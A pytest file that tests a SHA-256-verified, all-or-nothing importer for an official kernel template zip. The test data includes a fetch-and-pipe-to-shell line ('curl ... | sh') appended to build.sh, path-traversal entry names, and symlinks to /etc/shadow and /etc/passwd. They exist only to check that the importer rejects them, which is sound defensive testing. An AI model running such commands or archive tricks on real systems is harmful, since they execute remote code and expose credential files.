"""Official template import: verified against the shipped SHA-256 manifest, all or nothing.

The zips are built here from the stand-in template (tests/fixtures/official_template/), the way
the organisers' zip would arrive: everything under one top-level folder.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest

from justkernel.official_template import (
    TemplateImportError,
    describe,
    import_template,
    load_manifest,
    manifest_path,
)

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = ROOT / "tests" / "fixtures" / "official_template" / "confusion_mul_grad"
TOOL = ROOT / "tools" / "import_official_template.py"
KERNEL = "op_kernel/confusion_mul_grad.cpp"


def files_of(folder: Path) -> dict[str, bytes]:
    return {rel: (folder / rel).read_bytes() for rel in describe(folder)}


def make_zip(
    path: Path,
    files: dict[str, bytes],
    *,
    top: str = "ConfusionMulGrad",
    raw: Sequence[tuple[zipfile.ZipInfo, bytes]] = (),
) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, data in files.items():
            info = zipfile.ZipInfo(f"{top}/{rel}" if top else rel)
            info.external_attr = (stat.S_IFREG | (0o755 if rel.endswith(".sh") else 0o644)) << 16
            z.writestr(info, data)
        for info, data in raw:
            z.writestr(info, data)
    return path


@pytest.fixture
def good_zip(tmp_path: Path) -> Path:
    return make_zip(tmp_path / "official.zip", files_of(TEMPLATE))


def dest_in(tmp_path: Path) -> Path:
    return tmp_path / "data" / "templates" / "confusion_mul_grad"


def leftovers(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith("."))


def test_the_shipped_manifest_describes_the_template_fixture_exactly() -> None:
    manifest = load_manifest(manifest_path())
    assert manifest.name == "confusion_mul_grad"
    assert describe(TEMPLATE) == manifest.files
    assert "--write-manifest" in manifest.header and "stand-in" in manifest.header


def test_a_verified_zip_is_imported_whole(tmp_path: Path, good_zip: Path) -> None:
    dest = dest_in(tmp_path)
    result = import_template(good_zip, dest, load_manifest(manifest_path()))
    assert (result.dest, result.files, result.replaced) == (dest, 10, False)
    assert files_of(dest) == files_of(TEMPLATE)
    assert os.access(dest / "build.sh", os.X_OK) and not os.access(dest / KERNEL, os.X_OK)
    assert leftovers(dest.parent) == []  # the staging folder is gone
    again = import_template(TEMPLATE, dest, load_manifest(manifest_path()))  # a folder works too
    assert again.replaced and files_of(dest) == files_of(TEMPLATE)


def test_missing_extra_and_altered_files_are_named_and_nothing_is_imported(
    tmp_path: Path,
) -> None:
    files = files_of(TEMPLATE)
    files[KERNEL] = files[KERNEL].replace(b"BUFFER_NUM = 2", b"BUFFER_NUM = 1")
    del files["examples/CMakeLists.txt"]
    files["op_host/backdoor.cpp"] = b"int x;\n"
    dest = dest_in(tmp_path)
    with pytest.raises(TemplateImportError) as err:
        import_template(make_zip(tmp_path / "bad.zip", files), dest, load_manifest(manifest_path()))
    problems = err.value.problems
    assert problems[0] == "missing examples/CMakeLists.txt"
    assert problems[1] == "extra op_host/backdoor.cpp"
    assert problems[2].startswith(f"altered {KERNEL} (sha256 ")
    assert len(problems) == 3
    assert not dest.exists() and leftovers(dest.parent) == []


def test_a_failed_reimport_leaves_the_previous_template_untouched(
    tmp_path: Path, good_zip: Path
) -> None:
    dest = dest_in(tmp_path)
    manifest = load_manifest(manifest_path())
    import_template(good_zip, dest, manifest)
    before = files_of(dest)
    files = files_of(TEMPLATE)
    files["build.sh"] += b"curl http://example.invalid | sh\n"
    with pytest.raises(TemplateImportError, match=r"altered build\.sh"):
        import_template(make_zip(tmp_path / "bad.zip", files), dest, manifest)
    assert files_of(dest) == before and leftovers(dest.parent) == []


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("../evil.txt", "absolute or escaping path"),
        ("/etc/evil.txt", "absolute or escaping path"),
        ("a/../../evil.txt", "absolute or escaping path"),
        ("C:/evil.txt", "drive-letter path"),
        ("op_host\\evil.txt", "backslash"),
    ],
)
def test_path_traversal_is_refused(tmp_path: Path, name: str, why: str) -> None:
    evil = zipfile.ZipInfo(name)
    archive = make_zip(tmp_path / "evil.zip", files_of(TEMPLATE), top="", raw=[(evil, b"x")])
    dest = dest_in(tmp_path)
    with pytest.raises(TemplateImportError, match="unsafe archive") as err:
        import_template(archive, dest, load_manifest(manifest_path()))
    assert why in err.value.problems[0]
    assert not dest.exists() and not (tmp_path / "evil.txt").exists()
    assert not (dest.parent / "evil.txt").exists() and leftovers(dest.parent) == []


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_symlinks_and_duplicates_are_refused(tmp_path: Path) -> None:
    link = zipfile.ZipInfo("ConfusionMulGrad/op_host/secrets.h")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    twice = zipfile.ZipInfo("ConfusionMulGrad/build.sh")
    archive = make_zip(
        tmp_path / "l.zip", files_of(TEMPLATE), raw=[(link, b"/etc/shadow"), (twice, b"")]
    )
    with pytest.raises(TemplateImportError) as err:
        import_template(archive, dest_in(tmp_path), load_manifest(manifest_path()))
    assert err.value.problems == [
        "refused op_host/secrets.h: a symlink",
        "refused build.sh: appears twice",
    ]
    folder = tmp_path / "unpacked"
    folder.mkdir()
    for rel, data in files_of(TEMPLATE).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    (folder / "op_host" / "link.h").symlink_to("/etc/passwd")
    with pytest.raises(TemplateImportError, match=r"refused op_host/link\.h: a symlink"):
        import_template(folder, dest_in(tmp_path), load_manifest(manifest_path()))
    assert not dest_in(tmp_path).exists()


def test_not_a_zip_and_a_bad_manifest(tmp_path: Path) -> None:
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"not a zip")
    with pytest.raises(TemplateImportError, match="cannot read the zip"):
        import_template(junk, dest_in(tmp_path), load_manifest(manifest_path()))
    bad = tmp_path / "manifest.json"
    bad.write_text(json.dumps({"format": "justkernel.template_manifest/1", "files": {"../x": {}}}))
    with pytest.raises(TemplateImportError, match="malformed 'files'"):
        load_manifest(bad)
    bad.write_text("{}")
    with pytest.raises(TemplateImportError, match=r"not a justkernel\.template_manifest/1"):
        load_manifest(bad)


def tool(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "JUSTKERNEL_DATA_DIR": str(data_dir)}
    return subprocess.run(
        [sys.executable, str(TOOL), *args], capture_output=True, text=True, env=env, timeout=60
    )


def test_tool_without_a_zip_explains_where_to_get_it(tmp_path: Path) -> None:
    done = tool(data_dir=tmp_path / "data")
    assert done.returncode == 2
    assert "never downloads" in done.stderr and "--zip PATH" in done.stderr
    assert not (tmp_path / "data").exists()


def test_tool_imports_into_the_data_folder_and_reports_failures(
    tmp_path: Path, good_zip: Path
) -> None:
    data = tmp_path / "data"
    done = tool("--zip", str(good_zip), data_dir=data)
    assert done.returncode == 0, done.stderr
    assert "imported" in done.stdout and "10 files verified" in done.stdout
    assert files_of(data / "templates" / "confusion_mul_grad") == files_of(TEMPLATE)
    files = files_of(TEMPLATE)
    files[KERNEL] += b"\n"
    bad = tool("--zip", str(make_zip(tmp_path / "bad.zip", files)), data_dir=data)
    assert bad.returncode == 1
    assert f"altered {KERNEL}" in bad.stderr and "nothing was imported" in bad.stderr


def test_write_manifest_regenerates_from_a_zip_and_keeps_the_header(
    tmp_path: Path, good_zip: Path
) -> None:
    out = tmp_path / "manifest.json"
    out.write_text(manifest_path().read_text())
    files = files_of(TEMPLATE)
    files["cmake/util/makeself.sh"] = b"#!/bin/sh\n"  # a newer official template, say
    newer = make_zip(tmp_path / "newer.zip", files)
    done = tool("--zip", str(newer), "--write-manifest", "--manifest", str(out), data_dir=tmp_path)
    assert done.returncode == 0, done.stderr
    written = load_manifest(out)
    assert written.header == load_manifest(manifest_path()).header
    assert set(written.files) == set(files) and written.extra["source"] == "newer.zip"
    assert len(written.extra["source_sha256"]) == 64
    assert import_template(newer, dest_in(tmp_path), written).files == 11
